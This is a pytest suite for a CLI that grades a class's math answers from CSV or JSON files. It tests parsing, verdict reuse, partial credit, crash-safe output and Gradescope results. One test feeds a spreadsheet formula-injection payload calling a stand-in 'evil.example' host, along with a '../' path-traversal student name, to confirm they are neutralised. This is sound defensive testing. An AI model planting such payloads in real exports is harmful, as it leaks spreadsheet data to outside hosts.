"""``python -m derivations grade``: reading a class's file, the verdicts, reuse, the outputs."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from clitools import MARKER, Progress
from derivations.checker import check
from derivations.checker import grading as G
from derivations.checker.grading import measure, outputs, pool
from derivations.checker.grading.bench import class_csv, generate_class
from derivations.checker.grading.errors import GradescopeError
from derivations.checker.tokens import MAX_LENGTH

ROOT = Path(__file__).resolve().parents[2]
HEADER = "student,id,answer,format\n"


def write(path: Path, text: str | bytes) -> Path:
    if isinstance(text, str):
        text = text.encode("utf-8")
    path.write_bytes(text)
    return path


def grade_cli(capsys, *argv: str) -> tuple[int, str, str]:
    status = G.main([*argv])
    out, err = capsys.readouterr()
    return status, out, err


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture
def counted(monkeypatch, tmp_path):
    """Count the checks the worker processes run (one line per check in a file)."""
    log = tmp_path / "checks.log"
    real = pool._check_one

    def counting(answer_id, answer, latex, timeout):
        with log.open("a", encoding="utf-8") as f:
            f.write(json.dumps([answer_id, answer]) + "\n")
        return real(answer_id, answer, latex, timeout)

    monkeypatch.setattr(pool, "_check_one", counting)

    def calls() -> list[list[str]]:
        return [json.loads(x) for x in log.read_text("utf-8").splitlines()] if log.exists() else []

    return calls


# -- reading ------------------------------------------------------------------------------------


def test_grading_csv_reader_handles_bom_quotes_multiline_crlf_format_and_extra_columns() -> None:
    text = (
        "\ufeffEmail,STUDENT,Answer,Id,Format,Comment\r\n"
        'x@y.org,ada,"\\frac{w}\r\n{2\\lambda}",1A,LaTeX,"says ""hi"""\r\n'
        '\r\n'
        'z@y.org,"Bob, Jr.","min(a1, a2)",2a.i,,\r\n'
        "q@y.org,cy,w/(2 lambda),1a,text,\r\n"
    )
    rows = G.read_submissions(text.encode("utf-8"), "export.csv")
    assert [(r.line, r.student, r.answer_id, r.format, r.problem) for r in rows] == [
        (2, "ada", "1a", "latex", None),
        (5, "Bob, Jr.", "2a.i", None, None),
        (6, "cy", "1a", "text", None),
    ]
    assert rows[0].answer == "\\frac{w}\r\n{2\\lambda}" and rows[0].latex is True
    assert rows[1].answer == "min(a1, a2)" and rows[1].latex is None
    assert rows[2].latex is False
    # semicolon-separated (a spreadsheet in a comma-decimal locale), UTF-16 with its BOM
    semi = "student;id;answer\nada;1b;mu + Sigma w\n"
    assert G.read_submissions(semi.encode())[0].answer == "mu + Sigma w"
    assert G.read_submissions(semi.encode("utf-16"))[0].student == "ada"


def test_grading_json_lines_reader_by_extension_or_content() -> None:
    lines = (
        '{"Student": "ada", "ID": "1a", "answer": "w/(2 lambda)", "extra": 1}\n'
        "\n"
        '{"student": "bob", "id": "2b.ii", "answer": 0, "format": "text"}\n'
    )
    for name in ("class.jsonl", "class.ndjson", "class.json", ""):  # "" decides by content
        rows = G.read_submissions(lines.encode(), name)
        assert [(r.line, r.student, r.answer_id, r.answer, r.format) for r in rows] == [
            (1, "ada", "1a", "w/(2 lambda)", None), (3, "bob", "2b.ii", "0", "text")]
    array = '[\n {"student": "ada", "id": "1a", "answer": "w"},\n {"student": "b", "id": "3b"}\n]'
    rows = G.read_submissions(array.encode(), "class.json")
    assert [r.line for r in rows] == [2, 3]
    assert rows[1].problem == "missing field answer"


def test_grading_bad_rows_become_cannot_check_with_reason_and_line_number() -> None:
    long = "w" + " + w" * (MAX_LENGTH // 4 + 1)
    data = (HEADER + "ada,1a,w/(2 lambda),\n" + "ada,9z,w,\n" + "bob,1a\n" + f"bob,1b,{long},\n"
            + "cy,1a,w,markdown\n" + ",1a,w,\n" + "dee,2a.i,min(a1,a2),\n").encode()
    data += 'eve,3b,"min(h1\xe9,h2,h3)",\n'.encode("latin-1") + b"fay,1a,w/(2 lambda),\n"
    rows = G.read_submissions(data, "c.csv")
    problems = {r.line: r.problem for r in rows}
    assert problems[2] is None and problems[10] is None
    assert problems[3].startswith("unknown answer id '9z'")
    assert problems[4] == "missing field answer (the row has 2 fields, the header 4)"
    assert problems[5] == f"the answer is too long ({len(long)} > {MAX_LENGTH} characters)"
    assert problems[6].startswith("unknown format 'markdown'")
    assert problems[7] == "empty field student"
    assert "an answer with a comma must be in double quotes" in problems[8]
    assert problems[9] == "not UTF-8 text (byte 0xE9); save the file as UTF-8"
    assert rows[7].answer == "min(h1\ufffd,h2,h3)"  # shown, not lost
    graded = G.grade(rows, jobs=1)
    for g in graded.rows:
        if g.submission.problem:
            assert (g.verdict, g.exit_status, g.origin) == ("CANNOT CHECK", 2, "unread")
            assert g.feedback == f"line {g.submission.line}: {g.submission.problem}"
    json_rows = G.read_submissions(b'{"student": "a", "id": "1a", "answer": "w"}\n{oops\n[1]\n')
    assert [r.problem for r in json_rows][1:] == [
        "not valid JSON (Expecting property name enclosed in double quotes)",
        "not a JSON object with student, id, answer"]


@pytest.mark.parametrize(("content", "phrase"), [
    (b"", "the submissions are empty"),
    (b"  \n\n", "the submissions are empty"),
    (HEADER.encode(), "a header but no answers"),
    (b"name,question,response\nada,1a,w\n", "no header naming the columns student, id, answer"),
    (b'[{"student": "a", "id": "1a", "answer": "w"}', "not closed"),
])
def test_grading_unreadable_or_empty_file_exits_2(capsys, tmp_path, content, phrase) -> None:
    source = write(tmp_path / "class.csv" if content[:1] != b"[" else tmp_path / "c.json", content)
    status, out, err = grade_cli(capsys, str(source), "--out", str(tmp_path / "out"))
    assert status == 2 and out == "" and phrase in err and err.count("\n") == 1
    assert not (tmp_path / "out").exists()


# -- verdicts ----------------------------------------------------------------------------------


def test_grading_verdicts_equal_single_checks_over_a_generated_class() -> None:
    rows = generate_class(6, seed=3)
    rows += [{**r, "answer": f"  {r['answer']}\t"} for r in rows[:13]]  # the same, respaced
    submissions = G.read_submissions(class_csv(rows).encode(), "c.csv")
    graded = G.grade(submissions, jobs=2)
    assert {g.verdict for g in graded.rows} >= {"PROVED", "REFUTED", "CANNOT CHECK"}
    assert graded.count("reused") >= 13
    for g in graded.rows:
        s = g.submission
        single = check(s.answer_id, s.answer, latex=s.latex)
        assert (g.verdict, g.exit_status) == (single.verdict.value, single.exit_status), s
        assert g.result["diagnosis"] == single.diagnosis
        assert g.result["answer"] == s.answer


def test_grading_verdicts_equal_python_m_derivations_check(tmp_path) -> None:
    picks = [("1b", r"\mu + \Sigma^{-1} w", "latex"), ("2a.ii", "min(a2, a1)", ""),
             ("1a", "w/(2*lambda", "text")]
    source = write(tmp_path / "c.csv", HEADER + "".join(
        f'ada,{i},"{a}",{f}\n' for i, a, f in picks))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    runs = [subprocess.Popen(
        [sys.executable, "-m", "derivations", "check", *(["--latex"] if f == "latex" else []),
         *(["--text"] if f == "text" else []), "--json", i, "--", a],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for i, a, f in picks]
    grade = subprocess.run(
        [sys.executable, "-m", "derivations", "grade", "-", "--out", str(tmp_path / "out"),
         "--jobs", "1"], cwd=ROOT, env=env, input=source.read_text(), capture_output=True,
        text=True, timeout=120)
    assert grade.returncode == 0, grade.stderr
    rows = read_csv(tmp_path / "out" / "grades.csv")
    for row, proc in zip(rows, runs, strict=True):
        out, _ = proc.communicate(timeout=120)
        single = json.loads(out)
        assert (row["verdict"], int(row["exit"])) == (single["verdict"], proc.returncode)
        assert row["feedback"] == ("; ".join(single["diagnosis"]) if proc.returncode != 2
                                   else single["message"].splitlines()[0])


def test_grading_checks_each_distinct_answer_once(counted) -> None:
    text = HEADER + "".join([
        "ada,1a,w/(2 lambda),\n", "bob,1a,  w/(2   lambda) ,\n", 'cy,1a,"w/(2\nlambda)",\n',
        "dee,1a,w/(2 lambda),latex\n",  # another format: another check
        "ada,1b,mu + inv(Sigma) w,\n", "bob,1b,mu + inv(Sigma) w,\n", "cy,1b,mu+inv(Sigma)w,\n",
        "ada,2b.i,a1,\n", "bob,2b.ii,a1,\n",  # the same answer to other ids
    ])
    graded = G.grade(G.read_submissions(text.encode(), "c.csv"), jobs=2)
    calls = counted()
    assert len(calls) == graded.checks == 6
    assert sorted(c[0] for c in calls) == ["1a", "1a", "1b", "1b", "2b.i", "2b.ii"]
    assert [g.origin for g in graded.rows] == [
        "checked", "reused", "reused", "checked", "checked", "reused", "checked", "checked",
        "checked"]
    assert len({g.verdict for g in graded.rows[:4]}) == 1
    assert graded.rows[1].result["answer"] == "w/(2   lambda)"  # each row keeps its own text


def test_grading_unreadable_answer_with_other_spacing_is_checked_as_written(counted) -> None:
    text = HEADER + "ada,1a,w /(2*lamda),\nbob,1a,w  /(2*lamda),\ncy,1a,w /(2*lamda),\n"
    graded = G.grade(G.read_submissions(text.encode(), "c.csv"), jobs=1)
    assert len(counted()) == 2  # the message points at a position in the answer as typed
    positions = [g.result["message"].split(" at position ")[1][:1] for g in graded.rows]
    assert positions == ["7", "8", "7"]  # counted from 1
    assert [g.origin for g in graded.rows] == ["checked", "checked", "reused"]


def test_grading_stops_a_check_past_the_time_limit(monkeypatch) -> None:
    real = pool._check_one

    def slow(answer_id, answer, latex, timeout):
        if answer == "a1":
            time.sleep(30)
        return real(answer_id, answer, latex, timeout)

    monkeypatch.setattr(pool, "_check_one", slow)
    text = HEADER + "ada,2b.i,a1,\nada,2b.ii,0,\nbob,1a,w/lambda,\n"
    graded = G.grade(G.read_submissions(text.encode(), "c.csv"), jobs=1, limit=1.0)
    # the slow check was stopped at its limit (had its sleep run out, a1 would be PROVED)
    assert [g.verdict for g in graded.rows] == ["CANNOT CHECK", "PROVED", "REFUTED"]
    assert graded.rows[0].feedback == "no verdict within 1 s; the check was stopped"


# -- outputs -----------------------------------------------------------------------------------


CLASS = HEADER + "".join([
    "ada,1a,w/(2 lambda),\n", "ada,1b,mu + inv(Sigma) w,\n", 'ada,2a.i,"max(a1,a2)",\n',
    "bob,1a,w/lambda,\n", "bob,1b,\\mu + \\Sigma^{-1} w,latex\n", 'bob,2a.i,"min(a1,a2)",\n',
    "cy,1a,w/lambda,\n", "cy,1b,Sigma w,\n", 'cy,2a.i,"min(a1,",\n', "../cy,1a,w,\n",
])


def test_grading_writes_every_output_and_summary_groups_mistakes(capsys, tmp_path) -> None:
    source = write(tmp_path / "class.csv", CLASS)
    out = tmp_path / "grades"
    status, stdout, err = grade_cli(capsys, str(source), "--out", str(out), "--jobs", "2")
    assert status == 0, err
    assert sorted(p.name for p in out.iterdir()) == [
        MARKER, "canvas.csv", "feedback", "grades.csv", "grades.jsonl", "moodle.csv",
        "summary.md"]
    rows = read_csv(out / "grades.csv")
    assert list(rows[0]) == list(outputs.CSV_COLUMNS)
    assert [(r["student"], r["id"], r["verdict"], r["exit"], r["points"]) for r in rows[:4]] == [
        ("ada", "1a", "PROVED", "0", "1"), ("ada", "1b", "REFUTED", "1", "0"),
        ("ada", "2a.i", "REFUTED", "1", "0"), ("bob", "1a", "REFUTED", "1", "0")]
    assert rows[1]["feedback"] == "Σ⁻¹ in place of Σ"
    assert rows[1]["counterexample"].startswith("at ")
    records = [json.loads(x) for x in (out / "grades.jsonl").read_text("utf-8").splitlines()]
    assert [r["line"] for r in records] == list(range(2, 12))
    assert records[1]["student"] == "ada" and records[1]["verdict"] == "REFUTED"
    assert {"id", "answer", "interpretation", "counterexample", "diagnosis", "message"} <= set(
        records[1])
    summary = (out / "summary.md").read_text("utf-8")
    assert summary in stdout
    # id | points | answers | right | partly right | wrong | unreadable | blank | superseded |
    # mean over the class (4 students, a blank counts 0) | mean over the answers given
    assert "| 1a | 1 | 4 | 1 | 0 | 3 | 0 | 0 | 0 | 0.25 of 1 | 0.25 of 1 |" in summary
    assert "| 2a.i | 1 | 3 | 1 | 0 | 1 | 1 | 1 | 0 | 0.25 of 1 | 0.33 of 1 |" in summary
    assert "| 1b | 1 | 3 | 0 | 0 | 3 | 0 | 1 | 0 | 0.00 of 1 | 0.00 of 1 |" in summary
    assert ("- **your answer is 2× the expected one** (2 answers): `w/lambda` (2, read as "
            "$\\frac{1}{\\lambda} w$)" in summary)
    assert ("- **Σ⁻¹ in place of Σ** (2 answers): `mu + inv(Sigma) w` (1, read as "
            "$\\Sigma^{-1} w + \\mu$), `\\mu + \\Sigma^{-1} w` (1, read as "
            "$\\Sigma^{-1} w + \\mu$)" in summary)
    assert "- **missing additive term: + μ** (1 answer): `Sigma w` (1, read as" in summary
    names = sorted(p.name for p in (out / "feedback").iterdir())
    assert names == ["ada.md", "bob.md", "cy-2.md", "cy.md"]
    ada = (out / "feedback" / "ada.md").read_text("utf-8")
    # the questions answered in the class count (1a, 1b, 2a.i), one point each
    assert "Points: 1 of 3 (Sheet 11)." in ada
    assert "### 1a: right, 1 of 1 points\n" in ada and "- your answer: `w/(2 lambda)`" in ada
    assert "### 1b: wrong, 0 of 1 points: Σ⁻¹ in place of Σ\n" in ada
    assert "- diagnosis: Σ⁻¹ in place of Σ" in ada and "- counterexample: at " in ada
    assert "## Not answered" not in ada
    assert "## Not answered\n\n- **1b** (0 of 1 points)" in (
        out / "feedback" / "cy-2.md").read_text("utf-8")


def test_grading_csv_cells_that_look_like_formulas_are_quoted_jsonl_verbatim(
        capsys, tmp_path) -> None:
    answers = ["-w/(2 lambda)", '=HYPERLINK("http://evil.example/?"&A1)', "+w/(2 lambda)",
               "@SUM(A1)", "w/(2 lambda)"]
    source = write(tmp_path / "class.csv", "student,id,answer\n" + "".join(
        f'"=1+2",1a,"{a.replace(chr(34), 2 * chr(34))}"\n' for a in answers))
    out = tmp_path / "out"
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")
    assert status == 0, err
    rows = read_csv(out / "grades.csv")
    assert [r["answer"] for r in rows] == ["'" + a for a in answers[:4]] + [answers[4]]
    assert {r["student"] for r in rows} == {"'=1+2"}
    for row in rows:  # nothing a spreadsheet would run, in any column
        assert not any(v.startswith(outputs.FORMULA_STARTS) for v in row.values()), row
    assert rows[0]["verdict"] == "REFUTED" and rows[4]["verdict"] == "PROVED"
    records = [json.loads(x) for x in (out / "grades.jsonl").read_text("utf-8").splitlines()]
    assert [(r["student"], r["answer"]) for r in records] == [("=1+2", a) for a in answers]
    # a tab or carriage return is a control character: escaped (and so no formula start)
    assert [outputs.cell(t) for t in ("\tw", "\rw", "w-1", "'w")] == ["\\x09w", "\\x0dw",
                                                                        "w-1", "'w"]


def test_grading_failure_mid_way_leaves_the_previous_output_untouched(
        capsys, monkeypatch, tmp_path) -> None:
    source = write(tmp_path / "class.csv", CLASS)
    out = tmp_path / "grades"
    assert grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")[0] == 0
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    write(source, CLASS + "dee,1a,w/(2 lambda),\n")
    calls = []

    def broken(grading, student, verbose=False):
        calls.append(student)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return "x"

    monkeypatch.setattr(outputs, "feedback_markdown", broken)
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")
    assert status == 2 and "No space left on device" in err and "left as it was" in err
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    # every result is journaled beside the folder, for --resume
    assert sorted(p.name for p in tmp_path.iterdir()) == ["class.csv", "grades",
                                                          "grades.journal.jsonl"]
    # Ctrl-C while checking: exit 130, the previous output as it was
    advance = Progress.advance

    def interrupted(self, n=1):
        if self.done >= 2:
            raise KeyboardInterrupt
        advance(self, n)

    monkeypatch.setattr(Progress, "advance", interrupted)
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")
    assert status == 130 and "interrupted" in err
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_grading_refuses_a_foreign_folder_unless_forced(capsys, tmp_path) -> None:
    source = write(tmp_path / "class.csv", HEADER + "ada,1a,w/(2 lambda),\n")
    out = tmp_path / "mine"
    out.mkdir()
    write(out / "thesis.tex", "years of work")
    status, _, err = grade_cli(capsys, str(source), "--out", str(out))
    assert status == 2 and "holds files this command did not write (thesis.tex)" in err
    assert (out / "thesis.tex").exists()
    status, _, _ = grade_cli(capsys, str(source), "--out", str(out), "--force", "--jobs", "1")
    assert status == 0 and not (out / "thesis.tex").exists()


def test_grading_resume_checks_only_new_answers(capsys, counted, tmp_path) -> None:
    source = write(tmp_path / "class.csv", HEADER + "ada,1a,w/(2 lambda),\nbob,1a,w/lambda,\n")
    out = tmp_path / "grades"
    assert grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")[0] == 0
    assert len(counted()) == 2
    write(source, HEADER + "ada,1a,w/(2 lambda),\nbob,1a,w/lambda,\ncy,1a, w/lambda ,\n"
          "bob,1b,Sigma w + mu,\n")
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--resume", "--jobs", "1")
    assert status == 0, err
    assert "2 results kept" in err
    # cy's answer was checked for bob already (a result belongs to the answer, not the
    # student; up to whitespace): only bob's new one is checked
    assert [c[1] for c in counted()[2:]] == ["Sigma w + mu"]
    records = [json.loads(x) for x in (out / "grades.jsonl").read_text("utf-8").splitlines()]
    assert [(r["student"], r["origin"], r["verdict"]) for r in records] == [
        ("ada", "resumed", "PROVED"), ("bob", "resumed", "REFUTED"),
        ("cy", "resumed", "REFUTED"), ("bob", "checked", "PROVED")]
    assert records[2]["answer"] == "w/lambda" and not (tmp_path / "grades.journal.jsonl").exists()
    status, _, err = grade_cli(capsys, str(source), "--out", str(tmp_path / "new"), "--resume",
                               "--jobs", "1")
    assert status == 0 and "no " in err and "grading every answer" in err


def test_grading_points_and_partial_credit(capsys, tmp_path) -> None:
    source = write(tmp_path / "class.csv",
                   HEADER + 'ada,2a.i,"min(a1,a2) + max(0, a1 - 5)",\nada,1a,w/lambda,\n'
                   'ada,3b,"min(h1,h2,h3)",\nada,1b,Sigma w + mu,\nbob,2a.i,"max(a1,a2)",\n')
    toml = write(tmp_path / "points.toml",
                 'default = 0\npartial = 0.5\n[points]\n"2a.i" = 2\n"1a" = 1\n"3b" = 4\n')
    out = tmp_path / "out"
    assert grade_cli(capsys, str(source), "--out", str(out), "--points", str(toml),
                     "--jobs", "1")[0] == 0
    rows = read_csv(out / "grades.csv")
    # 1b carries no points; max(a1, a2) is right only on the tie a1 = a2: no partial credit
    assert [r["points"] for r in rows] == ["1", "0", "4", "0", "0"]
    assert measure.PARTIAL in rows[0]["feedback"] and measure.PARTIAL not in rows[4]["feedback"]
    assert "Points: 5 of 7 (Sheet 11)." in (out / "feedback" / "ada.md").read_text("utf-8")
    per_id = write(tmp_path / "points.json", json.dumps({"partial": {"3b": 0.25}}))
    assert grade_cli(capsys, str(source), "--out", str(out), "--points", str(per_id),
                     "--jobs", "1")[0] == 0
    assert [r["points"] for r in read_csv(out / "grades.csv")] == ["0", "0", "1", "1", "0"]
    for bad, phrase in [('partial = 2\n', "partial must be a number from 0 to 1"),
                        ('[points]\n"9z" = 1\n', "unknown answer id '9z' in points"),
                        ('partal = 0.5\n', "unknown key 'partal'"),
                        ('default = "x"\n', "default must be a number ≥ 0"),
                        ('[points\n', "not valid TOML")]:
        status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--points",
                                   str(write(tmp_path / "bad.toml", bad)))
        assert status == 2 and phrase in err, err


def test_grading_gradescope_results_json(capsys, tmp_path) -> None:
    source = write(tmp_path / "one.csv", HEADER + "ada,1a,w/(2 lambda),\nada,1b,Sigma w,\n")
    out = tmp_path / "results"
    assignment = write(tmp_path / "a.json", json.dumps({"ids": ["1a", "1b", "2a.i"]}))
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--gradescope",
                               "--points", str(assignment), "--jobs", "1")
    assert status == 0, err
    results = json.loads((out / "results.json").read_text("utf-8"))
    assert results["score"] == 1.0 and results["output"].startswith("1 of 3 points")
    assert [t["number"] for t in results["tests"]] == ["1a", "1b", "2a.i"]
    for test in results["tests"]:
        assert set(test) >= {"name", "score", "max_score", "output"}
        assert isinstance(test["score"], float) and test["max_score"] == 1.0
    first, second, third = results["tests"]
    assert (first["score"], first["status"]) == (1.0, "passed")
    assert first["output"].splitlines()[:3] == [
        "right, 1 of 1 points", "your answer: w/(2 lambda)", "read as: w/(2λ)"]
    assert second["score"] == 0 and second["output"].splitlines()[0] == (
        "wrong, 0 of 1 points: missing additive term: + μ")
    assert "how it was checked" not in second["output"]  # only with --verbose
    assert third["output"] == "not answered, 0 of 1 points"
    # without an assignment: the questions the submission answers
    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--gradescope",
                               "--jobs", "1", "--verbose")
    results = json.loads((out / "results.json").read_text("utf-8"))
    assert [t["number"] for t in results["tests"]] == ["1a", "1b"]
    assert "how it was checked: " in results["tests"][1]["output"]
    several = write(tmp_path / "two.csv", HEADER + "ada,1a,w,\nbob,1a,w,\n")
    status, _, err = grade_cli(capsys, str(several), "--out", str(tmp_path / "r2"),
                               "--gradescope")
    assert status == 2 and "one student's submission; the file holds 2 students" in err


@pytest.mark.parametrize(("argv", "phrase"), [
    (["--jobs", "0"], "--jobs must be an integer ≥ 1"),
    (["--timeout", "nan"], "--timeout must be a number > 0 and ≤ 3600, got 'nan'"),
    (["--timeout", "1e10"], "--timeout must be a number > 0 and ≤ 3600, got '1e10'"),
    (["--bogus"], "unrecognized arguments: --bogus"),
])
def test_grading_usage_errors_exit_2(capsys, tmp_path, argv, phrase) -> None:
    source = write(tmp_path / "c.csv", HEADER + "ada,1a,w,\n")
    status, out, err = grade_cli(capsys, str(source), "--out", str(tmp_path / "o"), *argv)
    assert status == 2 and out == "" and phrase in err
    status, _, err = grade_cli(capsys, str(tmp_path / "none.csv"), "--out", str(tmp_path / "o"))
    assert status == 2 and "no such submissions file" in err


def test_grading_progress_prints_rate_and_time_left() -> None:
    stream = io.StringIO()
    progress = Progress(10, "answers", "grading", stream, every=0.0)
    progress.advance(4)
    line = stream.getvalue().splitlines()[-1]
    assert line.startswith("grading: 4/10 answers (40%) [########") and "answers/s" in line
    assert " s left" in line
    with pytest.raises(GradescopeError):  # the library's own exception; the CLI makes it exit 2
        outputs.one_student(["ada", "bob"])
